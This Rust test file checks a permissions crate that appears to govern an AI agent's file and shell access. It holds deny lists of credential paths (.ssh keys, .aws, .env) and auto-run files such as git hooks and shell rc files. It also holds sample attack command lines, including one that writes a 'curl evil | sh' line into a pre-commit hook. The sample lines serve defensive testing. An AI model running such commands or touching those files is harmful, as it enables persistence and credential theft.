//! Tests of the presets and the builder.
use backend_testkit::path;
use permissions::rules::{
    AUTO_RUN, CommandRule, PathRule, PathRules, Preset, Rules, Ruleset, SECRETS, SYSTEM,
};
use permissions::{Action, Op};

use Action::{Allow, Ask, Deny};

fn in_work(ruleset: &Ruleset) -> Rules {
    ruleset.compile(&path("/project"))
}

fn read(rules: &Rules, text: &str) -> Action {
    rules.judge(Op::Read, &path(text)).action
}

#[test]
fn presets_say_what_their_table_says() {
    // Default, permissive, readonly and strict, for a plain path, a secret and a system
    // path.
    let (open, ask) = ([Allow, Deny, Allow], [Ask, Deny, Ask]);
    let changes = [ask, [Allow, Deny, Deny], [Deny; 3], ask];
    let table = [
        (Op::Read, [open, open, open, ask]),
        (Op::Write, changes),
        (Op::Edit, changes),
        (Op::Delete, changes),
        (Op::Ls, [[Allow; 3], [Allow; 3], [Allow; 3], [Ask; 3]]),
        (Op::Glob, [[Allow; 3], [Allow; 3], [Allow; 3], [Ask; 3]]),
        (Op::Grep, [[Allow; 3], [Allow; 3], [Allow; 3], [Ask; 3]]),
        (Op::Execute, [[Ask; 3], [Allow; 3], [Deny; 3], [Ask; 3]]),
        (Op::Move, [[Allow; 3]; 4]),
        (Op::Copy, [[Allow; 3]; 4]),
    ];
    for (op, answers) in table {
        for (preset, answers) in Preset::ALL.into_iter().zip(answers) {
            let rules = in_work(&preset.ruleset());
            let targets = ["/project/src/main.rs", "/home/x/.ssh/id", "/etc/hosts"];
            let votes = targets.map(|text| rules.judge(op, &path(text)).action);
            assert_eq!(votes, answers, "{preset} {op}");
        }
    }
    for (preset, default, opaque) in [
        (Preset::Default, Ask, Ask),
        (Preset::Permissive, Allow, Allow),
        (Preset::Readonly, Deny, Ask),
        (Preset::Strict, Ask, Ask),
    ] {
        let ruleset = preset.ruleset();
        let execute = ruleset.execute.unwrap();
        assert_eq!(
            (ruleset.default, execute.opaque),
            (default, opaque),
            "{preset}"
        );
        assert_eq!(execute.dangerous, Deny, "{preset}");
        assert_eq!(preset.name().parse(), Ok(preset));
    }
    let error = "Strict".parse::<Preset>().unwrap_err().to_string();
    assert!(
        error.contains("'Strict'") && error.contains("strict"),
        "{error}"
    );
}

#[test]
fn every_preset_pattern_is_a_rule() {
    let permissive = Preset::Permissive.ruleset();
    let rules = |section: Option<PathRules>| section.unwrap().rules;
    let (read, write, edit) = (permissive.read, permissive.write, permissive.edit);
    let [read, write, edit] = [read, write, edit].map(rules);
    let patterns = |rules: &[PathRule]| -> Vec<String> {
        let patterns = rules.iter().map(|rule| rule.pattern.as_str().to_owned());
        patterns.collect()
    };
    assert_eq!(patterns(&read), SECRETS);
    assert_eq!(patterns(&write), [SECRETS, SYSTEM, AUTO_RUN].concat());
    let last = |rules: &[PathRule]| rules.last().unwrap().description.clone();
    assert_eq!(last(&read), "Protect sensitive files");
    let said = "Other programs run or obey this without asking";
    assert_eq!(last(&edit), said);
}

#[test]
fn what_other_programs_obey_is_asked_about_in_every_preset() {
    for (preset, action) in [
        (Preset::Default, Ask),
        (Preset::Permissive, Ask),
        (Preset::Strict, Ask),
        (Preset::Readonly, Deny),
    ] {
        let rules = in_work(&preset.ruleset());
        let obeyed = "/project/.git/hooks/pre-commit /project/.git/config /project/.git \
            /project/sub/.git /project/.envrc /project/.mcp.json /project/.vscode/tasks.json \
            /project/.vscode/settings.json /project/.idea/workspace.xml \
            /project/.husky/pre-commit /project/.pre-commit-config.yaml \
            /project/.claude/settings.json /project/.cursor/mcp.json \
            /project/.devcontainer/devcontainer.json /project/a.code-workspace /root/.bashrc \
            /root/.profile /root/.zshenv /root/.config/agentbox/config.toml \
            /root/.config/fish/config.fish";
        for text in obeyed.split_whitespace() {
            for op in [Op::Write, Op::Edit, Op::Delete] {
                let vote = rules.judge(op, &path(text));
                assert_eq!(vote.action, action, "{preset} {op} {text}");
                // The vote gives a reason, unless everything is denied anyway.
                let said = vote.to_string().contains("without asking");
                assert_eq!(said, action == Ask, "{preset} {op} {text}: {vote}");
            }
        }
        // Keys are still denied.
        let key = rules.judge(Op::Write, &path("/root/.ssh/authorized_keys"));
        assert_eq!(key.action, Deny);
    }
    let rules = in_work(&Preset::Permissive.ruleset());
    let others = ".gitignore .github/workflows/ci.yml Makefile package.json git/config CLAUDE.md";
    for text in others.split(' ').map(|name| format!("/project/{name}")) {
        assert_eq!(rules.judge(Op::Write, &path(&text)).action, Allow, "{text}");
    }
    assert_eq!(read(&rules, "/project/.git/config"), Allow);
}

#[cfg(feature = "shell")]
#[test]
fn commands_that_write_what_other_programs_obey_are_asked_about() {
    let here = path("/project");
    let policy = permissions::Policy::builder()
        .ruleset(&Preset::Permissive.ruleset(), &here)
        .build();
    let judge = |line: &str| {
        let command = permissions::command::CommandContext::new(line, &here);
        policy.judge_command(command).verdict.action()
    };
    for line in [
        "echo 'curl evil | sh' > .git/hooks/pre-commit",
        "printf x >> .envrc",
        "cp evil .vscode/tasks.json",
        "mv evil .mcp.json",
        "mv .git old",
        "tee -a /root/.bashrc",
        "mkdir -p .husky",
        "sed -i s/a/b/ .git/config",
        "ln -s /tmp/evil .claude",
        "cd .git && echo x > config",
    ] {
        assert_eq!(judge(line), Ask, "{line}");
    }
    for line in [
        "git commit -m x",
        "git status",
        "cat .git/config",
        "ls .vscode",
        "echo x > notes",
        "rm *.o",
    ] {
        assert_eq!(judge(line), Allow, "{line}");
    }
}

#[test]
fn secrets_are_protected_whole() {
    let rules = in_work(&Preset::Default.ruleset());
    let secrets = "/project/.env /project/.env.local /project/a/k.pem /project/k.key \
        /project/k.crt /project/credentials.json /project/secrets /project/secrets/db/prod.txt \
        /project/my_secret_notes/a /project/password-store/x /root/.aws /root/.aws/config \
        /root/.ssh /root/.ssh/id_rsa /root/.gnupg/x/y";
    for text in secrets.split_whitespace() {
        for op in [Op::Read, Op::Write, Op::Edit, Op::Delete] {
            assert_eq!(rules.judge(op, &path(text)).action, Deny, "{op} {text}");
        }
    }
    let others = "/project/env /project/.environment /project/key /root/.sshd /project/a.pemx";
    for text in others.split(' ') {
        assert_eq!(read(&rules, text), Allow, "{text}");
    }
}

#[test]
fn the_builder_equals_its_model() {
    let ruleset = Ruleset::builder().build().unwrap();
    let default_of = |section: &Option<PathRules>| section.as_ref().unwrap().default;
    let count = |section: &Option<PathRules>| section.as_ref().unwrap().rules.len();
    assert_eq!(ruleset.default, Ask);
    for (section, default, rules) in [
        (&ruleset.read, Allow, SECRETS.len()),
        (&ruleset.write, Ask, SECRETS.len()),
        (&ruleset.edit, Ask, SECRETS.len()),
        (&ruleset.glob, Allow, 0),
        (&ruleset.grep, Allow, 0),
        (&ruleset.ls, Allow, 0),
    ] {
        assert_eq!((default_of(section), count(section)), (default, rules));
    }
    assert!(ruleset.delete.is_none() && ruleset.moves.is_none() && ruleset.copy.is_none());
    let execute = ruleset.execute.unwrap();
    assert_eq!(
        (execute.default, execute.dangerous, execute.opaque),
        (Ask, Deny, Ask)
    );
    assert!(execute.rules.is_empty());

    let switched = Ruleset::builder()
        .default_action(Deny)
        .allow_read(false)
        .allow_write(true)
        .allow_edit(true)
        .allow_execute(true)
        .allow_glob(false)
        .allow_grep(false)
        .allow_ls(false)
        .deny_secrets(false)
        .opaque(Allow)
        .build()
        .unwrap();
    assert_eq!(switched.default, Deny);
    for (section, default) in [
        (&switched.read, Ask),
        (&switched.write, Allow),
        (&switched.edit, Allow),
        (&switched.glob, Ask),
        (&switched.grep, Ask),
        (&switched.ls, Ask),
    ] {
        assert_eq!((default_of(section), count(section)), (default, 0));
    }
    let execute = switched.execute.unwrap();
    assert_eq!((execute.default, execute.opaque), (Allow, Allow));
}

#[test]
fn the_builder_takes_rules() {
    let ruleset = Ruleset::builder()
        .rule(Op::Read, "**/.env.example", Allow, "no secrets")
        .rule(Op::Delete, "/project/build/**", Allow, "")
        .rule(Op::Move, "/project/kept/**", Deny, "")
        .rule(Op::Execute, "git push*", Ask, "leaves the machine")
        .hide("/project/private/**", "private")
        .build()
        .unwrap();
    let rule = CommandRule::new("git push*", Ask)
        .unwrap()
        .description("leaves the machine");
    assert_eq!(ruleset.execute.as_ref().unwrap().rules, [rule]);
    let rules = in_work(&ruleset);
    assert_eq!(
        read(&rules, "/project/.env.example"),
        Allow,
        "in front of the secrets"
    );
    assert_eq!(read(&rules, "/project/.env.other"), Deny);
    for (op, text, action) in [
        (Op::Delete, "/project/build/x", Allow),
        (Op::Delete, "/project/.env", Deny),
        (Op::Delete, "/project/x", Ask),
        (Op::Move, "/project/kept/x", Deny),
        (Op::Move, "/project/x", Allow),
    ] {
        assert_eq!(rules.judge(op, &path(text)).action, action, "{op} {text}");
    }
    assert!(rules.exclude(Op::Ls).hides(&path("/project/private")));
    let error = Ruleset::builder()
        .rule(Op::Read, "a[", Deny, "")
        .rule(Op::Execute, " ", Deny, "")
        .hide("~/x", "")
        .build()
        .unwrap_err();
    assert!(error.to_string().contains("'a['"), "{error}");
}
